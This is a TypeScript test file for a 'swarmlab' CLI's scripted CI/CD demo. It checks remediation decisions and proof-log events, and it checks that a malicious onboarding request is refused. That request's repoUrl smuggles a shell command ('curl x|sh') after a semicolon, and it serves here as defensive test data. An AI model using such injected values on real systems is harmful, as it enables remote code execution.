// The scripted demo (scenarios/cicd-demo.yaml) run through `swarmlab run`, as
// a user runs it: the original's three scenarios in order, exactly those
// decisions, the proof log's story and its breakdown in the summary.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';

const bin = fileURLToPath(new URL('../../../../../bin/swarmlab.js', import.meta.url));
const demoFile = fileURLToPath(new URL('../../../../../scenarios/cicd-demo.yaml', import.meta.url));

function swarmlab(args: string[], cwd: string) {
  const r = spawnSync(process.execPath, [bin, ...args], { cwd, encoding: 'utf8', env: { ...process.env, SWARMLAB_S3_ENDPOINT: '' } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

type Entry = Record<string, unknown> & { event: string; t: number };

/** Runs an Experiment file with the CLI into a fresh store; returns each run's proof log and summary, by run id. */
function runDemo(file: string) {
  const dir = mkdtempSync(join(tmpdir(), 'swarmlab-cicd-demo-'));
  const r = swarmlab(['run', file, '--store', `file://${dir}/store`, '--json'], dir);
  expect(r.stderr).toBe('');
  expect(r.code).toBe(0);
  const exp = join(dir, 'store', 'cicd-demo');
  const root = join(exp, readdirSync(exp)[0]!);
  const runs = readdirSync(join(root, 'runs')).sort();
  return {
    dir,
    root,
    runs: runs.map((run) => ({
      proof: readFileSync(join(root, 'runs', run, 'proof_log.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Entry),
      summary: JSON.parse(readFileSync(join(root, 'runs', run, 'summary.json'), 'utf8')) as { run: { seed: number }; results: Record<string, Record<string, unknown>> },
    })),
  };
}

/** The story of each scenario: what was injected, what the agent decided, what ran, and how it ended. */
function story(proof: readonly Entry[]): string[] {
  const out: string[] = [];
  for (const e of proof) {
    if (e.event === 'FAILURE_INJECTED') out.push(`${String(e.kind)}${e.cpu === undefined ? '' : ` ${String(e.cpu)}`}`);
    if (e.event === 'RL_DECISION') out.push(`decide ${String(e.state)} -> ${String(e.action)}`);
    if (e.event === 'ORCH_EXEC') out.push(`exec ${String(e.action)}`);
    if (e.event === 'NOOP') out.push('noop');
    if (e.event === 'SYSTEM_STABLE' || e.event === 'SYSTEM_UNSTABLE') out.push(e.event);
  }
  return out;
}

const SCENARIOS = [
  // A: crash -> restart -> stable
  'crash',
  'decide stage:crash -> restart',
  'exec restart',
  'SYSTEM_STABLE',
  // B: CPU overload 85% -> scale workers -> stable
  'cpu_overload 0.85',
  'decide stage:cpu -> scale_up',
  'exec scale_up',
  'SYSTEM_STABLE',
  // C: false alarm -> noop -> stable
  'false_alarm',
  'decide stage:spike -> noop',
  'noop',
  'SYSTEM_STABLE',
];

describe('the scripted CI/CD demo through swarmlab run', { timeout: 120_000 }, () => {
  it('shows the original three scenarios in order, exactly those decisions, with the full proof story and its breakdown in the summary', () => {
    const { dir, root, runs } = runDemo(demoFile);
    expect(runs).toHaveLength(1);
    const [{ proof, summary }] = runs as [(typeof runs)[number]];
    expect(story(proof)).toEqual(SCENARIOS);
    expect(proof.slice(0, 6).map((e) => e.event)).toEqual(['ONBOARDING_STARTED', 'ONBOARDING_VALIDATION_PASSED', 'SPEC_GENERATED', 'DEPLOYMENT_TRIGGERED', 'RUNTIME_EMIT', 'RUNTIME_EMIT']);
    // Every decision passes Gate 1 and the execution gates before anything runs.
    for (const [i, e] of proof.entries()) {
      if (e.event === 'RL_DECISION') expect(proof.slice(i + 1, i + 3).map((x) => x.event)).toEqual(['RL_INTAKE_VALIDATED', 'EXECUTION_GATE_PASSED']);
      if (e.event === 'RL_DECISION') expect(e).toMatchObject({ mode: 'deterministic', explored: false, source: 'agent' });
    }
    const breakdown = {
      DEPLOYMENT_TRIGGERED: 1,
      EXECUTION_GATE_PASSED: 3,
      FAILURE_INJECTED: 3,
      NOOP: 1,
      ONBOARDING_STARTED: 1,
      ONBOARDING_VALIDATION_PASSED: 1,
      ORCH_EXEC: 2,
      RL_DECISION: 3,
      RL_INTAKE_VALIDATED: 3,
      RUNTIME_EMIT: 2,
      SPEC_GENERATED: 1,
      SYSTEM_STABLE: 3,
    };
    expect(summary.results.agent!.proofLog).toEqual({ file: 'proof_log.jsonl', entries: 24, breakdown });
    expect(summary.results.agent).toMatchObject({ frozen: true, updates: 0, memoryBlocks: 0, refusals: 0 });
    expect(swarmlab(['validate', root], dir).code).toBe(0);
  });

  it('gives the same decisions for any seed, even with learning switched on (stage is deterministic), and refuses a bad onboarding request in the proof log', () => {
    const doc = parse(readFileSync(demoFile, 'utf8')) as { spec: { sweep: { seeds: { replicas: number } }; scenario: { modules: { name: string; config: Record<string, unknown> }[] } } };
    doc.spec.sweep.seeds.replicas = 4;
    const config = (name: string) => doc.spec.scenario.modules.find((m) => m.name === name)!.config;
    config('agent').learning = { freeze: false, epsilon: 1 };
    (config('onboarding').requests as unknown[]).push({ at: 10, name: 'evil', repoUrl: 'https://github.com/example/evil;curl x|sh', environment: 'prod' });
    const dir = mkdtempSync(join(tmpdir(), 'swarmlab-cicd-demo-'));
    const file = join(dir, 'cicd-demo.yaml');
    writeFileSync(file, stringify(doc));
    const { runs } = runDemo(file);
    expect(runs.map((r) => r.summary.run.seed)).toHaveLength(4);
    expect(new Set(runs.map((r) => r.summary.run.seed)).size).toBe(4);
    for (const { proof, summary } of runs) {
      expect(story(proof)).toEqual(SCENARIOS);
      const refused = proof.filter((e) => e.event === 'ONBOARDING_REFUSED');
      expect(refused).toHaveLength(1);
      expect(refused[0]).toMatchObject({ t: 10, source: 'onboarding', app: 'evil', env: 'prod' });
      expect((refused[0]!.issues as { code: string }[]).map((i) => i.code)).toEqual(['INJECTION_DETECTED', 'PROD_ONBOARDING_BLOCKED']);
      expect(String(refused[0]!.justification)).toContain('environment: onboarding straight into prod is refused');
      expect(proof.filter((e) => e.event === 'DEPLOYMENT_TRIGGERED').map((e) => e.app)).toEqual(['demo-api']);
      expect(summary.results.onboarding).toMatchObject({ onboarded: 1, refused: 1 });
    }
  });
});
